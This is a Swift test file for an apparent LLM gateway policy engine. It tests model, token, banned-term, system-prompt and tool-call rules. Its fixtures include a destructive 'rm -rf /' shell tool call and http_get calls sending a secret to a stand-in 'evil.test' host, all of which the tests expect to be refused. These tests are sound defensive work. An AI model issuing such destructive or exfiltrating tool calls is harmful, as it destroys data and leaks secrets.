import PalisadeCore
import Testing
@testable import PalisadePolicy

@Suite struct ControlTests {
    private func policy(_ body: String) throws -> EffectivePolicy {
        try PolicyFixtures.load("version: 1\ndefault:\n" + body).defaultPolicy
    }

    @Test func modelAllowAndDenyGlobs() throws {
        let policy = try policy("  models: { allow: [\"gpt-4o*\", \"claude-*\"], deny: [\"*-preview\"] }\n")
        for (model, allowed) in [("gpt-4o-mini", true), ("Claude-Sonnet-4", true), ("gpt-3.5-turbo", false), ("gpt-4o-preview", false)] {
            let decision = try policy.evaluateInput(PolicyFixtures.chat(model: model), findings: [], bodyBytes: 10)
            #expect((decision.action == .allow) == allowed, "\(model)")
        }
        let refused = try policy.evaluateInput(PolicyFixtures.chat(model: "o1-preview"), findings: [], bodyBytes: 10)
        #expect(refused.matches.first?.finding?.type == PolicyFindingType.modelNotAllowed)
        #expect(refused.matches.first?.ruleID == "models")
    }

    @Test func promptSizeAndMaxTokens() throws {
        let policy = try policy("  limits: { max_prompt_bytes: 1000, max_tokens: 256 }\n")
        #expect(try policy.evaluateInput(PolicyFixtures.chat(maxTokens: 256), findings: [], bodyBytes: 1000).action == .allow)
        #expect(try policy.evaluateInput(PolicyFixtures.chat(), findings: [], bodyBytes: 1001).errorCode == "policy_prompt_too_large")
        #expect(try policy.evaluateInput(PolicyFixtures.chat(maxTokens: 257), findings: [], bodyBytes: 10).errorCode == "policy_max_tokens_exceeded")
    }

    @Test func bannedTermsIgnoreCaseWidthSpacingAndInvisibleCharacters() throws {
        let policy = try policy("  terms: { banned: [\"project nightingale\"], patterns: [\"(?i)\\\\bacme\\\\s+merger\\\\b\"] }\n")
        let spellings = ["Status of Project  Nightingale?", "ＰＲＯＪＥＣＴ ｎｉｇｈｔｉｎｇａｌｅ", "project night\u{200B}ingale", "the ACME   merger"]
        for text in spellings {
            let decision = try policy.evaluateInput(PolicyFixtures.chat(user: text), findings: [], bodyBytes: 10)
            #expect(decision.errorCode == "policy_banned_term", "\(text)")
        }
        for text in ["projects nightingales", "a nightingale project", "acmemerger"] {
            #expect(try policy.evaluateInput(PolicyFixtures.chat(user: text), findings: [], bodyBytes: 10).action == .allow, "\(text)")
        }
        let located = try policy.evaluateInput(PolicyFixtures.chat(user: "About Project Nightingale."), findings: [], bodyBytes: 10)
        #expect(located.matches.first?.finding?.utf8Range == 6..<25)
    }

    @Test func bannedTermsCanBeRedactedAndExemptedBySystemRole() throws {
        let policy = try policy("""
          rules:
            - { id: terms-in-system, match: { kind: policy, types: [BANNED_TERM], roles: [system] }, action: allow }
          terms: { banned: [nightingale], action: redact }

        """)
        let exempt = try policy.evaluateInput(PolicyFixtures.chat(system: "Codename nightingale", user: "hi"), findings: [], bodyBytes: 10)
        #expect(exempt.action == .allow && exempt.matchedRuleIDs == ["terms-in-system"])
        let redacted = try policy.evaluateInput(PolicyFixtures.chat(user: "tell me about nightingale"), findings: [], bodyBytes: 10)
        #expect(redacted.action == .redact)
        #expect(redacted.redactions.map(\.utf8Range) == [14..<25])
    }

    @Test func systemPromptRequiredAndForbiddenContent() throws {
        let policy = try policy("  system_prompt: { require: [\"You are\"], forbid: [\"password\"], action: flag }\n")
        #expect(try policy.evaluateInput(PolicyFixtures.chat(system: "You are a helpful bot."), findings: [], bodyBytes: 10).action == .allow)
        let missing = try policy.evaluateInput(PolicyFixtures.chat(system: "Be helpful."), findings: [], bodyBytes: 10)
        #expect(missing.action == .flag)
        #expect(missing.matches.map(\.finding?.type) == [PolicyFindingType.systemPromptMissingRequired])
        let leaky = try policy.evaluateInput(PolicyFixtures.chat(system: "you  are root. The PASSWORD is x"), findings: [], bodyBytes: 10)
        #expect(leaky.matches.map(\.finding?.type) == [PolicyFindingType.systemPromptForbiddenContent])
    }

    @Test func toolNamesArgumentPatternsAndDomains() throws {
        let policy = try policy("""
          tools:
            allow: [search, shell, http_get]
            deny: [delete_user]
            arguments:
              - { tool: shell, pattern: "rm\\\\s+-rf" }
              - { tool: http_get, argument: url, allowed_domains: [api.example.com] }
              - { tool: search, allowed_domains: ["*.example.org"] }

        """)
        func decide(_ calls: [ToolCall], tools: [String] = []) throws -> PolicyDecision {
            try policy.evaluateInput(PolicyFixtures.chat(tools: tools, toolCalls: calls), findings: [], bodyBytes: 10)
        }
        #expect(try decide([], tools: ["search", "shell"]).action == .allow)
        #expect(try decide([], tools: ["delete_user"]).errorCode == "policy_tool_not_allowed")
        #expect(try decide([ToolCall(name: "send_email", arguments: "{}")]).errorCode == "policy_tool_not_allowed")
        #expect(try decide([ToolCall(name: "shell", arguments: #"{"cmd":"ls -la"}"#)]).action == .allow)
        #expect(try decide([ToolCall(name: "shell", arguments: #"{"cmd":"rm  -rf /"}"#)]).errorCode == "policy_tool_argument_refused")
        #expect(try decide([ToolCall(name: "http_get", arguments: #"{"url":"https://api.example.com/v1/x"}"#)]).action == .allow)
        #expect(try decide([ToolCall(name: "http_get", arguments: #"{"url":"https://evil.test/?d=secret"}"#)]).errorCode == "policy_tool_argument_refused")
        #expect(try decide([ToolCall(name: "http_get", arguments: #"{"url":"evil.test/collect"}"#)]).errorCode == "policy_tool_argument_refused")
        #expect(try decide([ToolCall(name: "search", arguments: #"{"q":"x","sources":["https://docs.example.org/a"]}"#)]).action == .allow)
        #expect(try decide([ToolCall(name: "search", arguments: #"{"q":"x","sources":["https://example.org.evil.test/a"]}"#)]).action == .block)
    }

    @Test func malformedToolArgumentsAreAnEvaluationError() throws {
        let policy = try policy("  tools: { arguments: [ { tool: shell, argument: cmd, pattern: rm } ] }\n")
        #expect(throws: PolicyEvaluationError.self) {
            try policy.evaluateInput(PolicyFixtures.chat(toolCalls: [ToolCall(name: "shell", arguments: "{\"cmd\": ")]), findings: [], bodyBytes: 10)
        }
        #expect(try policy.evaluateInput(PolicyFixtures.chat(toolCalls: [ToolCall(name: "other", arguments: "{")]), findings: [], bodyBytes: 10).action == .allow)
    }

    @Test func toolCallsInTheAnswerAreChecked() throws {
        let policy = try policy("  tools: { deny: [delete_*] }\n")
        let decision = try policy.evaluateOutput(segments: [], toolCalls: [ToolCall(name: "delete_user", arguments: "{}")], findings: [], request: PolicyFixtures.chat(), canary: nil)
        #expect(decision.direction == .output)
        #expect(decision.errorCode == "policy_tool_not_allowed")
    }
}
